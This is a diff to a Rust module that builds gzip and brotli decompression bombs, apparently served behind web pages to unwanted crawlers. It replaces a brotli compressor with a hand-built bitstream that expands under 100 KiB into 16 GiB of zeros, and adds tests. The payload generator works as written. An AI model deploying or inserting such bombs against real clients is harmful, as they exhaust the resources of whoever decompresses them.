@@ -4,35 +4,35 @@
 //! once, before anything is served, and fits behind any page: so a bomb costs next to nothing to
 //! send, and no other host has to wait for it.
 //!
+//! The brotli stream is written bit by bit here: a page without compression and a block of zeros need
+//! few parts of the format, and a compressor takes longer to build than the rest of this crate.
+//!
 //! Sources: RFC 1951, section 3.2; RFC 7932, section 9.
 
 use std::io::{self, Write as _};
 
-use brotli::CompressorWriter;
 use flate2::Compression;
 use flate2::write::{DeflateEncoder, GzEncoder};
 
 /// What a gzip bomb becomes: 1 GiB, from 1 MiB. More would be cut off by a crawler's bound on what is sent.
 const GZIP_BYTES: usize = 1 << 30;
 const GZIP_BLOCK_BYTES: usize = 1 << 20;
-/// What a brotli bomb becomes: 16 GiB, from less than 1 MiB.
+/// What a brotli bomb becomes: 16 GiB, from less than 100 KiB and the page.
 const BROTLI_BYTES: usize = 1 << 34;
 const BROTLI_BLOCK_BYTES: usize = 4 << 20;
-const BROTLI_BUFFER_BYTES: usize = 64 << 10;
-const BROTLI_QUALITY: u32 = 5;
-/// The window as a power of two: a small one is made sooner.
-const BROTLI_WINDOW: u32 = 18;
+/// The most plain bytes in a part of a brotli stream that is not compressed.
+const BROTLI_STORED_BYTES_MAX: usize = 1 << 16;
 
 /// What bombs are made of.
 #[derive(Debug)]
 pub(crate) struct Bombs {
     gzip_block: Vec<u8>,
-    brotli_block: Vec<u8>,
+    brotli_block: [u8; BROTLI_BLOCK_CODED_BYTES],
 }
 
 impl Bombs {
     pub(crate) fn new() -> io::Result<Self> {
-        Ok(Self { gzip_block: gzip_block()?, brotli_block: brotli_block()? })
+        Ok(Self { gzip_block: gzip_block()?, brotli_block: brotli_block() })
     }
 
     /// The page and 1 GiB of zeros, without an end.
@@ -45,9 +45,8 @@ impl Bombs {
     }
 
     /// The page and 16 GiB of zeros, without an end.
-    pub(crate) fn brotli(&self, page: &[u8]) -> io::Result<Vec<u8>> {
-        let bomb = brotli_beginning(&[page, &[0; BROTLI_BUFFER_BYTES]])?;
-        Ok([&bomb[..], &self.brotli_block.repeat(BROTLI_BYTES / BROTLI_BLOCK_BYTES)].concat())
+    pub(crate) fn brotli(&self, page: &[u8]) -> Vec<u8> {
+        [brotli_beginning(page), self.brotli_block.repeat(BROTLI_BYTES / BROTLI_BLOCK_BYTES)].concat()
     }
 }
 
@@ -59,22 +58,57 @@ fn gzip_block() -> io::Result<Vec<u8>> {
     Ok(encoder.get_ref().clone())
 }
 
-/// Fits behind zeros: it goes on as they do, and leaves all as it found it.
-fn brotli_block() -> io::Result<Vec<u8>> {
-    let zeros = vec![0; BROTLI_BLOCK_BYTES];
-    let one = brotli_beginning(&[&zeros])?;
-    let two = brotli_beginning(&[&zeros, &zeros])?;
-    Ok(two[one.len()..].to_vec())
+/// Six bits that carry nothing, an empty meta-block of metadata; what follows begins with a whole byte.
+const BROTLI_ALIGN: u8 = 0b00_0_11_0;
+/// The bytes of a block that becomes zeros.
+const BROTLI_BLOCK_CODED_BYTES: usize = 14;
+
+/// Copies zeros that stand before it, leaves the distance of the last copy as it found it, and ends with a whole byte.
+fn brotli_block() -> [u8; BROTLI_BLOCK_CODED_BYTES] {
+    /// The shortest copy of the longest kind. The copy's extra bits say how much longer it is.
+    const COPY_BYTES_MIN: usize = 2118;
+    // Each field is a value and its bits, in the order of the stream. A prefix code of one symbol takes no bits
+    // where it is used.
+    let fields: [(usize, u32); 19] = [
+        (0, 1),                       // not the last meta-block
+        (2, 2),                       // its length has six nibbles
+        (BROTLI_BLOCK_BYTES - 1, 24), // its length less one
+        (0, 1),                       // it is compressed
+        (0, 3),                       // literals, commands and distances have one type of block each
+        (0, 6),                       // distances without postfix bits and direct codes
+        (0, 2),                       // the context mode of literals
+        (0, 2),                       // literals and distances have one prefix code each
+        (1, 2),                       // a simple prefix code of literals
+        (0, 2),                       // one symbol
+        (0, 8),                       // a literal that is never used
+        (1, 2),                       // a simple prefix code of commands
+        (0, 2),                       // one symbol
+        (391, 10),                    // insert nothing, then make the longest kind of copy
+        (1, 2),                       // a simple prefix code of distances
+        (0, 2),                       // one symbol
+        (0, 6),                       // the last distance again: 4 at first
+        (BROTLI_BLOCK_BYTES - COPY_BYTES_MIN, 24),
+        (BROTLI_ALIGN as usize, 6),
+    ];
+    let (mut stream, mut at) = (0_u128, 0);
+    for (value, bits) in fields {
+        stream |= (value as u128) << at;
+        at += bits;
+    }
+    std::array::from_fn(|byte| stream.to_le_bytes()[byte])
 }
 
-/// A stream that could go on, up to the end of the last part.
-fn brotli_beginning(parts: &[&[u8]]) -> io::Result<Vec<u8>> {
-    let mut encoder = CompressorWriter::new(Vec::new(), BROTLI_BUFFER_BYTES, BROTLI_QUALITY, BROTLI_WINDOW);
-    for part in parts {
-        encoder.write_all(part)?;
-        encoder.flush()?;
+/// A stream that could go on: the page without compression, and zeros for the first block to copy.
+fn brotli_beginning(page: &[u8]) -> Vec<u8> {
+    // The window has 64 KiB: one bit, 0.
+    let mut stream = vec![BROTLI_ALIGN << 1];
+    for part in [page, &[0; 4]].concat().chunks(BROTLI_STORED_BYTES_MAX) {
+        // Not the last meta-block; its length has four nibbles; its length less one; it is not compressed.
+        let header = ((part.len() - 1) << 3) | (1 << 19);
+        stream.extend_from_slice(&header.to_le_bytes()[..3]);
+        stream.extend_from_slice(part);
     }
-    Ok(encoder.get_ref().clone())
+    stream
 }
 
 #[cfg(test)]
@@ -88,13 +122,13 @@ mod tests {
     #[test]
     fn a_bomb_begins_with_its_page_and_goes_on_with_zeros() {
         let bombs = Bombs::new().unwrap();
-        for page in [&b"<a href=/>x</a>"[..], &b"<p>page</p>".repeat(5_000)] {
-            let (gzip, brotli) = (bombs.gzip(page).unwrap(), bombs.brotli(page).unwrap());
+        for page in [&b"<a href=/>x</a>"[..], &b"<p>page</p>".repeat(10_000)] {
+            let (gzip, brotli) = (bombs.gzip(page).unwrap(), bombs.brotli(page));
             assert!(gzip.len() < (1 << 20) + (64 << 10), "{}", gzip.len());
-            assert!(brotli.len() < 1 << 20, "{}", brotli.len());
+            assert!(brotli.len() < (100 << 10) + page.len(), "{}", brotli.len());
             let streams: [Box<dyn io::Read>; 2] = [
                 Box::new(flate2::read::GzDecoder::new(&gzip[..])),
-                Box::new(brotli::Decompressor::new(&brotli[..], 4_096)),
+                Box::new(brotli_decompressor::Decompressor::new(&brotli[..], 4_096)),
             ];
             for stream in streams {
                 let mut plain = vec![1; LOOKED_AT];
